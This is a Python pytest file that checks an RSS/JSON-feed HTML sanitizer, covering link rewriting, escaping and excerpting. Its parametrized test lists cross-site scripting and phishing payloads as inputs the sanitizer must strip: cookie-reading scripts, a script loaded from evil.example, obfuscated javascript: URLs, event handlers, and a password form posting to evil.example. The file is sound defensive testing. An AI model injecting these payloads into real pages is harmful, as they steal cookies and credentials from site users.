"""Hostile item HTML comes out harmless; formatting and absolute links survive."""

from __future__ import annotations

import json

import pytest

from socialhub.feed.ingest import excerpt, html_to_text, parse_feed, sanitize_html

BASE = "https://blog.example/2024/03/post/"


@pytest.mark.parametrize(
    ("hostile", "forbidden"),
    [
        ("<p>Hi<script>alert(document.cookie)</script></p>", "script"),
        ("<p>Hi<SCRIPT SRC=//evil.example/x.js></SCRIPT></p>", "evil.example"),
        ('<img src="https://i.example/a.png" onerror="alert(1)">', "onerror"),
        ('<p onmouseover="steal()">hover</p>', "onmouseover"),
        ('<a href="javascript:alert(1)">click</a>', "javascript"),
        ('<a href="JaVaScRiPt&#58;alert(1)">click</a>', "alert"),
        ('<a href=" javascript:alert(1)">click</a>', "javascript"),
        ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "data:"),
        ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "data:"),
        ('<iframe src="https://evil.example/frame"></iframe>', "iframe"),
        ('<object data="https://evil.example/x.swf"></object>', "object"),
        ('<svg onload="alert(1)"><circle r="1"/></svg>', "onload"),
        ('<style>body{display:none}</style><p>x</p>', "display"),
        ('<p style="position:fixed;top:0;left:0">overlay</p>', "style"),
        ('<form action="https://evil.example/phish"><input name="password"></form>', "password"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
        ('<base href="https://evil.example/">', "base"),
        ("<!-- [if IE]><script>x()</script><![endif] -->text", "<!--"),
    ],
)
def test_hostile_html_is_neutralised(hostile, forbidden):
    cleaned = sanitize_html(hostile, base_url=BASE)

    assert forbidden.lower() not in cleaned.lower()


def test_formatting_and_links_survive_with_noopener_and_absolute_urls():
    cleaned = sanitize_html(
        '<h2>Title</h2><p>Some <strong>bold</strong> and <em>italic</em> text with '
        '<a href="../other/" target="_blank" class="btn">a relative link</a>.</p>'
        '<blockquote cite="https://q.example">Quote</blockquote>'
        '<ul><li>one</li><li>two</li></ul><pre><code>x = 1</code></pre>'
        '<img src="img/photo.jpg" alt="A photo" width="640" height="480" loading="lazy">',
        base_url=BASE,
    )

    assert cleaned == (
        '<h2>Title</h2><p>Some <strong>bold</strong> and <em>italic</em> text with '
        '<a href="https://blog.example/2024/03/other/" rel="noopener noreferrer">a relative '
        'link</a>.</p><blockquote cite="https://q.example">Quote</blockquote>'
        "<ul><li>one</li><li>two</li></ul><pre><code>x = 1</code></pre>"
        '<img src="https://blog.example/2024/03/post/img/photo.jpg" alt="A photo" width="640" '
        'height="480">'
    )


def test_existing_rel_on_a_link_is_replaced_by_noopener_noreferrer():
    cleaned = sanitize_html('<a href="https://x.example" rel="opener">x</a>', base_url=BASE)

    assert cleaned == '<a href="https://x.example" rel="noopener noreferrer">x</a>'


def test_relative_links_without_a_base_are_dropped_rather_than_left_pointing_at_us():
    assert sanitize_html('<a href="/admin">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_the_hostile_rss_sample_item_is_clean_after_parsing(sample):
    feed = parse_feed(sample("rss20.xml"), content_type="application/rss+xml",
                      url="https://news.example.com/feed/")

    html = feed.items[0].content_html
    for forbidden in ("<script", "onerror", "onclick", "javascript:", "<iframe", "style=",
                      "document.cookie", 'target="_blank"'):
        assert forbidden not in html
    assert '<a href="https://news.example.com/deals/macbook-air" rel="noopener noreferrer">' in html
    assert '<a rel="noopener noreferrer">Order now</a>' in html


def test_json_feed_plain_text_content_is_escaped_not_interpreted():
    document = json.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": "T",
        "items": [{"id": "1", "content_text": "Use <script>alert(1)</script> & see"}],
    }).encode()

    item = parse_feed(document, content_type="application/feed+json",
                      url="https://t.example/feed.json").items[0]

    assert item.content_html == "<p>Use &lt;script&gt;alert(1)&lt;/script&gt; &amp; see</p>"
    assert item.excerpt == "Use <script>alert(1)</script> & see"


def test_plain_text_of_html_keeps_words_apart_and_drops_scripts():
    text = html_to_text(
        "<p>First&nbsp;paragraph &amp; more.</p><p>Second <b>bo</b>ld</p>"
        "<script>var hidden = 1;</script><ul><li>a</li><li>b</li></ul>"
    )

    assert text == "First paragraph & more. Second bold a b"


def test_excerpt_cuts_at_a_word_boundary_with_an_ellipsis():
    text = "The quick brown fox jumps over the lazy dog. " * 20

    cut = excerpt(text, 60)

    assert len(cut) <= 60
    assert cut.endswith("…")
    assert cut == "The quick brown fox jumps over the lazy dog. The quick…"
    assert excerpt("Short enough.", 60) == "Short enough."
